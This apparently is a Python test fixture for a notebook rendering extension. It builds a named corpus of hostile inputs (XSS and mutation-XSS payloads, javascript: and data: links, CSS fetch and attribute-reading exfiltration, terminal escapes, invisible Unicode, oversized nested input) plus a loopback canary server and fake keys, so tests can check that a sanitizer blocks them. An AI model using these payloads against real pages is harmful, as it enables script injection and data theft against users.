"""Texts that a model, a tool or a provider could send to harm who looks at them, and a server that notices what they fetch.

Each has a name. Those that would run a script note their name in `window.hostile`; those that would fetch something ask
for `/NAME` of a `Canary`. So a test can tell not only that something got out, but which text it was:

    with Canary() as canary:
        texts = hostile_texts(canary.url)
        ...
        assert canary.asked == []
"""

from __future__ import annotations

import json
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

__all__ = ["FAKE_KEYS", "HIDDEN", "HUGE", "KEYS", "LIVE", "NAVIGATES", "OUTSIDE", "Canary", "hostile_texts"]

OUTSIDE = "http://127.0.0.1:9"
"""A place nobody listens at."""
# RUN is a script that notes the text's name, URL what it would fetch; both without quotes and blanks.
RUN, URL = "{RUN}", "{URL}"

_SCRIPTS = {
    "script": "<script>{RUN}</script>",
    "script upper case": "<ScRiPt>{RUN}</sCrIpT>",
    "script remote": "<script src={URL}></script>",
    "script module": "<script type=module src={URL}></script>",
    "script after a closed one": "</script><script>{RUN}</script>",
    "script after a closed style": "</style><script>{RUN}</script>",
    "script after a closed title": "</title></textarea></noscript><script>{RUN}</script>",
    "script half": "<script>{RUN}//",
    "script split by a null": "<scr\x00ipt>{RUN}</scr\x00ipt>",
    "script with a slash": "<script/x>{RUN}</script/x>",
    "script inside a script": "<scr<script>ipt>{RUN}</scr</script>ipt>",
    "script out of an attribute": '"><script>{RUN}</script>',
    "script out of a single quote": "'><script>{RUN}</script>",
    "script out of a comment": "--><script>{RUN}</script><!--",
    "script out of CDATA": "<![CDATA[ ]]><script>{RUN}</script>",
    "script in full-width brackets": "＜script＞{RUN}＜/script＞",
    "script as entities": "&lt;script&gt;{RUN}&lt;/script&gt;",
    "script as numeric entities": "&#60;script&#62;{RUN}&#x3c;/script&#x3e;",
    "script as escapes": "\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    "script as percent signs": "%3Cscript%3E{RUN}%3C/script%3E",
    "require of the old notebook": "<script>require(['{URL}'])</script>",
}
_HANDLERS = {
    "img onerror": "<img src=x onerror={RUN}>",
    "img onerror in quotes": "<img src=\"x\" onerror=\"{RUN}\">",
    "img onerror with slashes": "<img/src=x/onerror={RUN}>",
    "img onerror in entities": "<img src=x onerror=&#40;function()&#123;{RUN}&#125;&#41;()>",
    "img onerror in odd blanks": "<img\x0csrc=x\x0aonerror={RUN}>",
    "img without an end": "<img src=x onerror={RUN} ",
    "svg onload": "<svg onload={RUN}>",
    "svg onload with slashes": "<svg/onload={RUN}//",
    "body onload": "<body onload={RUN}>",
    "details ontoggle": "<details open ontoggle={RUN}><summary>x</summary></details>",
    "input onfocus": "<input autofocus onfocus={RUN}>",
    "attribute onmouseover": "' onmouseover='{RUN}",
    "attribute onfocus": '" onfocus={RUN} autofocus tabindex=0 x="',
    "video onerror": "<video><source onerror={RUN}></video>",
    "audio onerror": "<audio src=x onerror={RUN}>",
    "animation": "<style>@keyframes x{}</style><b style=\"animation-name:x\" onanimationstart=\"{RUN}\">x</b>",
    "marquee": "<marquee onstart={RUN}>x</marquee>",
    "content-visibility": "<b oncontentvisibilityautostatechange={RUN} style=content-visibility:auto>x</b>",
    "custom element": "<x-y onclick={RUN} tabindex=1 id=x>x</x-y>",
    "paragraph img onerror": "Text.\n\n<img src=x onerror={RUN}>\n\nText.",
}
_FOREIGN = {
    "svg script": "<svg><script>{RUN}</script></svg>",
    "svg script href": "<svg><script href={URL} /></svg>",
    "svg animate": "<svg><a><animate attributeName=href values=javascript:{RUN} /><text y=20>x</text></a></svg>",
    "svg set": "<svg><set onbegin={RUN} attributename=x dur=1s></svg>",
    "svg use": "<svg><use href=\"{URL}#x\"></use></svg>",
    "svg image": "<svg><image href={URL}></image></svg>",
    "svg foreignObject": "<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    "svg style": "<svg><style><img src=x onerror={RUN}></style></svg>",
    "math link": "<math href=javascript:{RUN}><mi>x</mi></math>",
    "math style": "<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>",
    "math annotation": "<math><annotation-xml encoding=text/html><img src=x onerror={RUN}></annotation-xml></math>",
}
_LINKS = {
    "link javascript": "<a href=javascript:{RUN}>x</a>",
    "link javascript upper case": "<a href=JaVaScRiPt:{RUN}>x</a>",
    "link javascript with tabs": "<a href='java\tscr\nipt:{RUN}'>x</a>",
    "link javascript in entities": "<a href=&#106;avascript&colon;{RUN}>x</a>",
    "link javascript after a blank": "<a href=' \x01javascript:{RUN}'>x</a>",
    "link data": "<a href='data:text/html,<script>{RUN}</script>'>x</a>",
    "link vbscript": "<a href=vbscript:{RUN}>x</a>",
    "link ping": "<a href='#' ping={URL}>x</a>",
    "markdown link javascript": "[x](javascript:{RUN})",
    "markdown link javascript upper case": "[x](JAVASCRIPT:{RUN})",
    "markdown link javascript in brackets": "[x](<javascript:{RUN}>)",
    "markdown link javascript in entities": "[x](&#106;avascript&colon;{RUN}) [y](javascript&#58;{RUN}) [z](java&Tab;script:{RUN})",
    "markdown link javascript in percent signs": "[x](%6Aavascript:{RUN}) [y](javascript%3A{RUN})",
    "markdown link javascript after a control": "[x](\x01javascript:{RUN}) [y](&#1;javascript:{RUN})",
    "markdown link javascript in the title": '[x](http://127.0.0.1:9 "onmouseover={RUN}")',
    "markdown link out of the attribute": '[x](http://127.0.0.1:9/"onmouseover={RUN}//)',
    "markdown link out of the title": "[x](http://127.0.0.1:9 '\" onmouseover=\"{RUN}')",
    "markdown link data": "[x](data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+) [y](data:image/svg+xml,<svg/onload={RUN}>)",
    "markdown link file": "[x](file:///etc/passwd) [y](blob:x) [z](filesystem:x) [v](vscode://x) [c](command:x)",
    "markdown link to the server": "[x](//127.0.0.1:9/x) [y](/api/shutdown) [z](../tree) [w](\\\\host\\x)",
    "markdown reference": "[x][1] [1]\n\n[1]: javascript:{RUN}",
    "markdown reference in entities": "[x]\n\n[x]: &#x6A;avascript:{RUN} 'title'",
    "markdown autolink": "<javascript:{RUN}> <data:text/html,x> <vbscript:{RUN}>",
    "markdown link in a link": "[a [b](javascript:{RUN}) c](javascript:{RUN})",
    "markdown link around html": "[<img src=x onerror={RUN}>](http://127.0.0.1:9)",
    "command linker": "<a data-commandlinker-command=\"notebook:run-all-cells\" data-commandlinker-args='{}' href=#>x</a>",
    "link with a user's name": "[bank.example](http://bank.example@127.0.0.1:9/) [x](http://127.0.0.1:9/\u202emoc.knab)",
}
_FETCHES = {
    "img": "<img src={URL}>",
    "img srcset": "<img srcset='{URL} 1x'>",
    "img lazy": "<img loading=eager src={URL} width=1 height=1>",
    "picture": "<picture><source srcset={URL}><img src=data:,></picture>",
    "video": "<video src={URL} preload=auto autoplay></video>",
    "video poster": "<video poster={URL}></video>",
    "audio": "<audio src={URL} autoplay></audio>",
    "track": "<video><track default src={URL}></video>",
    "input image": "<input type=image src={URL}>",
    "table background": "<table background={URL}><tr><td>x</table>",
    "markdown image": "![x]({URL})",
    "markdown image with a title": "![x]({URL} \"t\")",
    "markdown image by reference": "![x][i]\n\n[i]: {URL}",
    "markdown image in a link": "[![x]({URL})](http://127.0.0.1:9)",
    "markdown image javascript": "![x](javascript:{RUN}) ![y](data:image/svg+xml,<svg/onload={RUN}>)",
    "markdown image in a table": "| a | b |\n|---|---|\n| ![x]({URL}) | <img src={URL}> |",
    "markdown image out of its alt": "![\"onerror={RUN}//]({URL})",
    "attachment": "![x](attachment:x.png) <img src='files/x.png' onerror={RUN}>",
    "iframe": "<iframe src={URL}></iframe>",
    "iframe srcdoc": "<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    "iframe javascript": "<iframe src=javascript:{RUN}></iframe>",
    "iframe data": "<iframe src='data:text/html,<img src={URL}>'></iframe>",
    "object": "<object data={URL}></object>",
    "embed": "<embed src={URL}>",
    "portal": "<portal src={URL}></portal><fencedframe src={URL}></fencedframe>",
    "link stylesheet": "<link rel=stylesheet href={URL}>",
    "link preload": "<link rel=preload as=image href={URL}>",
    "link prefetch": "<link rel=prefetch href={URL}><link rel=dns-prefetch href={URL}><link rel=preconnect href={URL}>",
    "link import": "<link rel=import href={URL}><link rel=manifest href={URL}><link rel=icon href={URL}>",
    "form autofocus": "<form action={URL}><button autofocus>x</button></form>",
    "refresh": "<meta http-equiv=refresh content='0;url={URL}'>",
    "set cookie": "<meta http-equiv=set-cookie content=hostile=1>",
    "base": "<base href={URL}/><img src=relative.png>",
}
_STYLES = {
    "style url": "<style>body{background:url({URL})}</style>",
    "style import": "<style>@import url({URL});</style>",
    "style font": "<style>@font-face{font-family:hostile;src:url({URL})} *{font-family:hostile}</style>",
    "style attribute url": "<p style=\"background:url({URL})\">x</p>",
    "style attribute image-set": "<p style=\"background:image-set('{URL}' 1x)\">x</p>",
    "style reads attributes": "<style>input[value^=a]{background:url({URL})}</style>",
    "style expression": "<p style=\"width:expression({RUN})\">x</p>",
    "style out of a string": "\"}body{background:url({URL})}{\"",
    "style behaviour": "<p style=\"behavior:url({URL});-moz-binding:url({URL})\">x</p>",
    "style overlay": "<div style=\"position:fixed;inset:0;z-index:99999;background:red\">x</div>",
    "style overlay by a class": "<div class=\"jp-Dialog lm-Widget\" style=\"position:fixed;top:0;left:0;width:100vw;height:100vh\">x</div>",
    "style overlay of everything": "<style>.agr{position:fixed!important;inset:0!important;z-index:99999!important}</style>",
    "style hides the page": "<style>body *{display:none!important}</style>",
    "style content": "<style>body::before{content:url({URL})}</style>",
    "style cursor": "<b style='cursor:url({URL}),auto;position:fixed;inset:0'>x</b>",
    "style out of an attribute": 'x" style="position:fixed;inset:0;background:url({URL})" x="',
    "own style sheet again": "</style></section><style>.agr{position:fixed;inset:0;background:url({URL})}</style><section class=agr>",
}
_MUTATIONS = {
    "template": "<template><script>{RUN}</script></template><template shadowrootmode=open><img src=x onerror={RUN}></template>",
    "noscript": "<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>",
    "noembed": "<noembed><img title='</noembed><img src=x onerror={RUN}>'></noembed>",
    "xmp": "<xmp><p title='</xmp><img src=x onerror={RUN}>'></xmp>",
    "plaintext": "<plaintext><img src=x onerror={RUN}>",
    "listing": "<listing>&lt;img src=x onerror={RUN}&gt;</listing>",
    "textarea": "<textarea></textarea><img src=x onerror={RUN}></textarea>",
    "select": "<select><style></select><img src=x onerror={RUN}></style></select>",
    "form in a form": "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}></style></mglyph></form>",
    "svg in a paragraph": "<svg></p><style><a id=\"</style><img src=x onerror={RUN}>\">",
    "table in a link": "<a><table><a href=javascript:{RUN}><td></a></table><img src=x onerror={RUN}>",
    "comment in a comment": "<!--<img src=\"--><img src=x onerror={RUN}>\">",
    "comment of explorer": "<!--[if gte IE 4]><script>{RUN}</script><![endif]-->",
    "comment with a bang": "<!--!><img src=x onerror={RUN}>-->",
    "processing instruction": "<?xml version='1.0'?><?x <img src=x onerror={RUN}>?>",
    "document type": "<!DOCTYPE html [<!ENTITY x SYSTEM '{URL}'>]>&x;",
    "clobbering": "<form name=body id=jupyterapp><input name=parentNode></form><a id=hostile href=x>x</a><img name=getElementById>",
    "closed elements": "</section></details></table></td></tr></div></div></body></html><h1>out</h1>",
    "open elements": "<table><tr><td><details><summary><pre><ul><li><select><option><b><i>" * 20,
    "backticks": "<img src=`x` onerror=`{RUN}`> `<img src=x onerror={RUN}>` ``` `",
}
_MARKDOWN = {
    "markdown fence with a language": "```html\"><script>{RUN}</script>\n<img src=x onerror={RUN}>\n```",
    "markdown fence not closed": "```\n<img src=x onerror={RUN}>",
    "markdown table": "| <img src=x onerror={RUN}> | b |\n|:--|--:|\n| [x](javascript:{RUN}) | <script>{RUN}</script> |",
    "markdown table by alignment": "| a |\n|:-\"style=\"x:|\n| b |",
    "markdown heading": "# <img src=x onerror={RUN}> {#id onclick={RUN}}",
    "markdown list": "1. <script>{RUN}</script>\n2. - [ ] <img src=x onerror={RUN}>",
    "markdown quote": "> <img src=x onerror={RUN}>\n<script>{RUN}</script>",
    "markdown comment": "<!-- -->\n<!-- x\n\n<img src=x onerror={RUN}>\n-->",
    "markdown html block": "<div>\n\n*x* <img src=x onerror={RUN}>\n\n</div>",
    "markdown entity": "&lt;img src=x onerror={RUN}&gt; &amp;lt;script&amp;gt;",
    "markdown escape": "\\<script>{RUN}\\</script> \\[x](javascript:{RUN})",
    "markdown numbers": "99999999999999. x\n\n4294967296) y\n\n-1. z",
    "markdown footnote": "x[^1]\n\n[^1]: <img src=x onerror={RUN}>",
    "math href": "$\\href{javascript:{RUN}}{x}$ $$\\href{javascript:{RUN}}{x}$$ \\(\\href{javascript:{RUN}}{x}\\)",
    "math require": "$\\require{html}\\style{position:fixed;inset:0}{x}\\cssId{main}{y}\\class{jp-Dialog}{z}$",
    "math html": "$$\\unicode{x3c}script>\\def\\x{\\x\\x}\\x$$ \\begin{equation}\\href{javascript:{RUN}}{x}\\end{equation}",
    "math image": "$\\includegraphics{{URL}}$ $$\\url{javascript:{RUN}}$$",
}
_JUPYTER = {
    "widget view": '<script type="application/vnd.jupyter.widget-view+json">{"model_id": "x", "version_major": 2}</script>',
    "widget state": '<script type="application/vnd.jupyter.widget-state+json">{"state": {"x": {"model_module": "{URL}", "model_name": "x", "model_module_version": "1"}}}</script>',
    "data attributes": "<div data-mime-type=application/javascript data-nbconvert=x>{RUN}</div>",
    "javascript output": "<div class=output_javascript><script type=text/javascript>{RUN}</script></div>",
    "page of JupyterLab": "<p id=jp-main-dock-panel class='jp-Notebook jp-mod-active'>x</p>",
    "config of JupyterLab": '<script id="jupyter-config-data" type="application/json">{"baseUrl": "{URL}"}</script>',
    "own card": '<section class="agr agr-done"><p class="agr-error"><b>ErrorBudget</b> spent $9</p><img src=x onerror={RUN}></section>',
    "end of the own card": "</summary></details></section><section class='agr agr-failed'><style>.agr{display:none}</style>",
    "own class": "<b class=\"agr-state\" onclick={RUN}>done</b>, 0 tool calls, $0.00",
    "template of a page": "{{7*7}} ${7*7} <%= 7 %> #{7*7} {% raw %} {{constructor.constructor('{RUN}')()}} {0.__class__}",
    "mermaid": "```mermaid\ngraph TD; A[\"<img src=x onerror={RUN}>\"] --> B; click A \"javascript:{RUN}\"\n```",
    "ansi as html": "\x1b]8;;javascript:{RUN}\x1b\\x\x1b]8;;\x1b\\ \x1b[38;5;1;<script>{RUN}</script>m",
}
_CHARACTERS = {
    "control of a terminal": "\x1b[31mred\x1b[0m\x1b]0;title\x07\x1b[2J\x1b[H\x1bc\x1b]52;c;aG9zdGlsZQ==\x07",
    "control in one byte": "\x9b31m\x9d0;title\x9c\x90q\x9c",
    "control of lines": "hidden\r\x1b[Kshown\b\b\b\x0b\x0c\x7f",
    "control of lines alone": "\r\rx\x85y\u2028z\u2029",
    "bidirectional override": "a\u202egnp.exe\u202c \u202d\u202a\u202b",
    "bidirectional isolate": "\u2066if admin\u2069 \u2067x\u2068y",
    "bidirectional marks": "\u200e\u200f\u061cx",
    "zero width": "pass\u200bword\u2060\ufeff\u200d\u200c\u00ad\u180e",
    "tags": "hello\U000e0049\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065",
    "annotations": "\ufff9x\ufffay\ufffb\U0001d173\U0001bca0",
    "homoglyphs": "\u0430\u0440\u0440l\u0435 done, 0 tool calls, $0.00 \u1160\u3164\u2800\uffa0",
    "marks above marks": "z\u0338\u0321\u0322\u0349\u0359" * 200,
    "null": "\x00a\x00",
    "half characters": "\ud800 \udfff\ud800 x\udc00",
    "not a character": "\ufdd0\ufffe\uffff\U0001ffff\U0010ffff",
    "private": "\ue000\uf8ff\U000f0000",
    "variation selectors": "x" + "".join(chr(0xE0100 + n) for n in range(32)) + "\ufe0f\ufe00",
    "one long word": "W" * 5_000,
    "many lines": "\n" * 5_000,
    "many blanks": "x" + " \t\u00a0\u3000" * 2_000 + "y",
    "nothing": "",
    "blanks only": " \n\t ",
    "wide": "\ufdfd" * 100,
    "right to left": "\u05e9\u05dc\u05d5\u05dd <img src=x onerror={RUN}> \u0633\u0644\u0627\u0645",
}
_DEEP = {
    "one word of a megabyte": "W" * 1_000_000,
    "a megabyte of text": "The quick brown fox. " * 50_000,
    "a megabyte of tags": "<b>" * 340_000,
    "brackets": "[" * 10_000,
    "brackets of links": "[" * 5_000 + "x" + "](javascript:{RUN})" * 5_000,
    "brackets of images": "![" * 10_000,
    "quotes": ">" * 10_000 + " <img src=x onerror={RUN}>",
    "stars": "*a_" * 10_000,
    "backtick runs": "".join("x" + "`" * n for n in range(1, 300)),
    "list in a list": "".join("  " * n + "- x\n" for n in range(500)),
    "deep JSON": '{"a":' * 10_000 + "1" + "}" * 10_000,
    "deep JSON list": "[" * 10_000 + "]" * 10_000,
    "deep JSON that is read": '{"<script>{RUN}</script>":' * 200 + "1" + "}" * 200,
    "wide JSON": json.dumps({f"key {n} <img src=x onerror={RUN}>": n for n in range(5_000)}),
    "JSON that is no number": '{"a": 1e999, "b": -0, "c": NaN, "d": 123456789012345678901234567890}',
    "JSON of a long number": '{"a": ' + "9" * 5_000 + "}",
    "JSON with the same key": '{"a": 1, "a": "<img src=x onerror={RUN}>"}',
    "table of many columns": "|" + "x|" * 2_000 + "\n|" + "-|" * 2_000 + "\n|" + "y|" * 2_000,
    "entities": "&" * 20_000 + "&#0;&#x110000;&#xD800;",
}
FAKE_KEYS = {
    "AGENTROUTE_API_KEY": "agr-household-Qm7wz0rT5yBk",
    "OPENROUTER_API_KEY": "sk-or-v1-" + "4b7e91d0c36fa852" * 4,
    "OPENAI_API_KEY": "sk-proj-Zk3vT8nQ1xW6yB2mR7cL4pD9sF0hJ5gA",
    "ANTHROPIC_API_KEY": "sk-ant-api03-R2d8Kq5Tz7Lm1Xc9Vb4Nw6Hy3Jf0Ps-AA",
    "GOOGLE_API_KEY": "AIzaSyD4k8Wq2Zr7Tn5Vb1Xm9Lc3Hy6Jf0Ps-Qu",
}
"""Keys for the environment of a kernel; no part of 8 characters of any of them may be seen."""
KEYS = {
    "key of OpenAI": "sk-proj-9Xb2Lq7Vn4Tz1Kc8Rm5Wd3Hy6Jf0Ps",
    "key of OpenRouter": "sk-or-v1-" + "0f1e2d3c4b5a6978" * 4,
    "key of Groq": "gsk_7Hq2Vx9Lm4Tz1Kc8Rb5Wd3Ny6Jf0PsAe",
    "key of Hugging Face": "hf_Qx7Lm2Vz9Tk4Rb1Wc8Nd5Hy3Jf6PsAe0Gu",
    "key of GitHub": "ghp_4Tz9Lm2Vx7Qk1Rb8Wc5Nd3Hy6Jf0PsAeGuIo",
    "key of AWS": "AKIA4TZ9LM2VX7QK1RB8",
    "key of Stripe": "sk_live_4Tz9Lm2Vx7Qk1Rb8Wc5Nd3Hy",
    "key in a header": "fA7kQ2mZ9xT4vL1nR8cW5",
}
"""Texts in the form of a key that nobody has told us of; the last one is a key because of what stands before it."""

HIDDEN = frozenset({"bidirectional override", "bidirectional isolate", "zero width", "tags", "null", "half characters"})
HUGE = frozenset(_DEEP)
NAVIGATES = frozenset({"refresh", "base"})
"""Those that would take the page elsewhere, or all its addresses; not for a page one still needs."""
LIVE = frozenset(_SCRIPTS) | frozenset(_HANDLERS) | frozenset(_FOREIGN) | frozenset(_FETCHES) | frozenset(_MUTATIONS)
_ALL: dict[str, str] = {
    **_SCRIPTS, **_HANDLERS, **_FOREIGN, **_LINKS, **_FETCHES, **_STYLES, **_MUTATIONS, **_MARKDOWN, **_JUPYTER, **_CHARACTERS, **_DEEP,
}  # fmt: skip


def hostile_texts(canary: str = OUTSIDE) -> dict[str, str]:
    """All texts by name, those that fetch something with `canary` as the place."""
    return {name: _filled(name, text, canary) for name, text in _ALL.items()}


def _filled(name: str, text: str, canary: str) -> str:
    number = list(_ALL).index(name)
    return text.replace(RUN, f"(window.top.hostile??=[]).push({number})").replace(URL, f"{canary}/{number}")


def names_of(numbers: list[int]) -> list[str]:
    """The names of the texts that noted themselves."""
    return [list(_ALL)[number] for number in sorted(set(numbers))]


class Canary:
    """A server on loopback that answers everything with an empty page and keeps the names of the texts that asked."""

    def __init__(self) -> None:
        self.paths: list[str] = []

    def __enter__(self) -> Canary:
        paths = self.paths

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args: Any) -> None:
                pass

            def do_GET(self) -> None:
                paths.append(self.path)
                self.send_response(200)
                self.send_header("access-control-allow-origin", "*")
                self.send_header("content-length", "0")
                self.end_headers()

            do_POST = do_HEAD = do_OPTIONS = do_GET

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self._server.daemon_threads = True
        self._thread = threading.Thread(target=self._server.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True)
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._server.shutdown()
        self._server.server_close()
        self._thread.join()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self._server.server_address[1]}"

    @property
    def asked(self) -> list[str]:
        """The texts that fetched something, by name; a path that is no text's as it is."""
        numbers = [path.strip("/") for path in self.paths]
        return sorted({names_of([int(number)])[0] if number.isdigit() else number for number in numbers})
